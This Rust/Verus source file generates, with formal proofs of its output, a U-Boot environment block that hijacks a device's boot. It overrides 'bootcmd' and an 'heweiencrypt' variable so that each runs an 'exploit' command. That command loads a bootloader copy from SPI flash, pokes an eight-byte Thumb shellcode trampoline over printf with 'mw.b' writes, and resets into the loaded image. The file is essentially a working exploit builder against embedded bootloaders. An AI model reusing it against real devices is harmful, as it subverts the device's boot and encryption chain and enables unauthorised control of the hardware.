//! The U-Boot environment that chain-loads a bootloader copy from SPI flash.
use vstd::prelude::*;
use crate::bytes::le32;
use crate::text::{chars_of, hex_fixed, lemma_hex_fixed_len, push_chars, push_hex_fixed, string_of};

verus! {

/// `{:#010x}` of a 32-bit value.
pub open spec fn hex10(v: nat) -> Seq<char> {
    "0x"@ + hex_fixed(v, 8)
}

/// `{:#04x}` of a byte.
pub open spec fn hex4(v: nat) -> Seq<char> {
    "0x"@ + hex_fixed(v, 2)
}

/// The eight bytes of the Thumb trampoline that jumps to `jump_addr`.
pub open spec fn shellcode(jump_addr: u32) -> Seq<u8> {
    seq![0x00u8, 0x48u8, 0x00u8, 0x47u8] + le32(jump_addr)
}

/// `mw.b` commands writing `code[0..n]` byte by byte from `load_addr` on.
pub open spec fn poke_cmds(load_addr: u32, code: Seq<u8>, n: nat) -> Seq<char>
    decreases n,
{
    if n == 0 {
        seq![]
    } else {
        poke_cmds(load_addr, code, (n - 1) as nat) + "mw.b "@ + hex10(
            (load_addr + (n - 1)) as nat,
        ) + " "@ + hex4(code[n - 1] as nat) + ";"@
    }
}

/// Commands that write the trampoline at `load_addr` and reset into it.
pub open spec fn shellcode_cmd(load_addr: u32, jump_addr: u32) -> Seq<char> {
    poke_cmds(load_addr, shellcode(jump_addr), 8) + "dcache flush;icache flush;printenv jump2;reset;"@
}

/// Command that loads `size` bytes from flash `offset` to `load_addr`.
pub open spec fn flash_load_cmd(load_addr: u32, offset: u32, size: u32) -> Seq<char> {
    "sf probe 0;sf read "@ + hex10(load_addr as nat) + " "@ + hex10(offset as nat) + " "@ + hex10(
        size as nat,
    ) + ";"@
}

/// The `exploit` variable: load U-Boot from flash, then patch `printf` with the trampoline.
pub open spec fn exploit_cmd(load: u32, flash_offset: u32, flash_size: u32, printf_addr: u32) -> Seq<
    char,
> {
    flash_load_cmd(load, flash_offset, flash_size) + shellcode_cmd(printf_addr, load)
}

/// The whole environment text (NUL separated variables, doubly NUL terminated).
pub open spec fn env_text(load: u32, flash_offset: u32, flash_size: u32, printf_addr: u32) -> Seq<
    char,
> {
    "bootcmd=run exploit;\0heweiencrypt=run exploit;\0exploit="@ + exploit_cmd(
        load,
        flash_offset,
        flash_size,
        printf_addr,
    ) + "\0\0"@
}

proof fn lemma_poke_cmds_len(load_addr: u32, code: Seq<u8>, n: nat)
    ensures
        poke_cmds(load_addr, code, n).len() == 21 * n,
    decreases n,
{
    reveal_strlit("mw.b ");
    reveal_strlit("0x");
    reveal_strlit(" ");
    reveal_strlit(";");
    if n > 0 {
        lemma_poke_cmds_len(load_addr, code, (n - 1) as nat);
        lemma_hex_fixed_len((load_addr + (n - 1)) as nat, 8);
        lemma_hex_fixed_len(code[n - 1] as nat, 2);
    }
}

/// The environment text has 324 characters.
pub proof fn lemma_env_text_len(load: u32, flash_offset: u32, flash_size: u32, printf_addr: u32)
    ensures
        env_text(load, flash_offset, flash_size, printf_addr).len() == 324,
{
    reveal_strlit("bootcmd=run exploit;\0heweiencrypt=run exploit;\0exploit=");
    reveal_strlit("sf probe 0;sf read ");
    reveal_strlit("0x");
    reveal_strlit(" ");
    reveal_strlit(";");
    reveal_strlit("dcache flush;icache flush;printenv jump2;reset;");
    reveal_strlit("\0\0");
    lemma_hex_fixed_len(load as nat, 8);
    lemma_hex_fixed_len(flash_offset as nat, 8);
    lemma_hex_fixed_len(flash_size as nat, 8);
    lemma_poke_cmds_len(printf_addr, shellcode(load), 8);
}

fn push_hex10(out: &mut Vec<char>, v: u32)
    ensures
        final(out)@ == old(out)@ + hex10(v as nat),
{
    push_chars(out, chars_of("0x").as_slice());
    push_hex_fixed(out, v as u64, 8);
}

fn push_hex4(out: &mut Vec<char>, v: u8)
    ensures
        final(out)@ == old(out)@ + hex4(v as nat),
{
    push_chars(out, chars_of("0x").as_slice());
    push_hex_fixed(out, v as u64, 2);
}

fn create_shellcode(jump_addr: u32) -> (r: [u8; 8])
    ensures
        r@ == shellcode(jump_addr),
{
    let le = crate::bytes::le32_bytes(jump_addr);
    let r = [0x00, 0x48, 0x00, 0x47, le[0], le[1], le[2], le[3]];
    assert(r@ =~= shellcode(jump_addr));
    r
}

fn push_shellcode_cmd(out: &mut Vec<char>, load_addr: u32, jump_addr: u32)
    requires
        load_addr + 7 <= u32::MAX,
    ensures
        final(out)@ == old(out)@ + shellcode_cmd(load_addr, jump_addr),
{
    let code = create_shellcode(jump_addr);
    let mut i: u32 = 0;
    while i < 8
        invariant
            i <= 8,
            load_addr + 7 <= u32::MAX,
            code@ == shellcode(jump_addr),
            out@ == old(out)@ + poke_cmds(load_addr, code@, i as nat),
        decreases 8 - i,
    {
        push_chars(out, chars_of("mw.b ").as_slice());
        push_hex10(out, load_addr + i);
        push_chars(out, chars_of(" ").as_slice());
        push_hex4(out, code[i as usize]);
        push_chars(out, chars_of(";").as_slice());
        assert(out@ =~= old(out)@ + poke_cmds(load_addr, code@, (i + 1) as nat));
        i = i + 1;
    }
    push_chars(out, chars_of("dcache flush;icache flush;printenv jump2;reset;").as_slice());
    assert(out@ =~= old(out)@ + shellcode_cmd(load_addr, jump_addr));
}

/// The U-Boot environment text that runs the chain-loading exploit on boot.
pub fn create_env(uboot_load_addr: u32, uboot_flash_offset: u32, uboot_flash_size: u32, printf_addr: u32) -> (r: String)
    requires
        printf_addr + 7 <= u32::MAX,
    ensures
        r@ == env_text(uboot_load_addr, uboot_flash_offset, uboot_flash_size, printf_addr),
{
    let mut s: Vec<char> = chars_of("bootcmd=run exploit;\0heweiencrypt=run exploit;\0exploit=");
    push_chars(&mut s, chars_of("sf probe 0;sf read ").as_slice());
    push_hex10(&mut s, uboot_load_addr);
    push_chars(&mut s, chars_of(" ").as_slice());
    push_hex10(&mut s, uboot_flash_offset);
    push_chars(&mut s, chars_of(" ").as_slice());
    push_hex10(&mut s, uboot_flash_size);
    push_chars(&mut s, chars_of(";").as_slice());
    push_shellcode_cmd(&mut s, printf_addr, uboot_load_addr);
    push_chars(&mut s, chars_of("\0\0").as_slice());
    assert(s@ =~= env_text(uboot_load_addr, uboot_flash_offset, uboot_flash_size, printf_addr));
    string_of(s.as_slice())
}

} // verus!
